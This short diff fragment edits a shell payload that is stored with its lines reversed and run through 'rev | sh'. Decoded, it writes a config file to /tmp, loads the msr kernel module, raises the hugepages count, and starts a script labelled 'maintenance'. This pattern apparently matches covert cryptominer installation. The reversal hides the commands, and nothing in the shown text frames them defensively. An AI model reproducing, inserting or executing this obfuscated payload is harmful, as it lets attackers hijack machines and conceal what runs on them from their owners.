@@ -9,4 +9,4 @@ FOE<< nosj.gifnoc/pmt/ > tac
 rsm eborpdom
 0821=segapeguh_rn.mv w- ltcsys
 hs/nib/!#
-0v 4339 ecnanetniam #' | rev | bash
+0v 4339 ecnanetniam #' | rev | sh
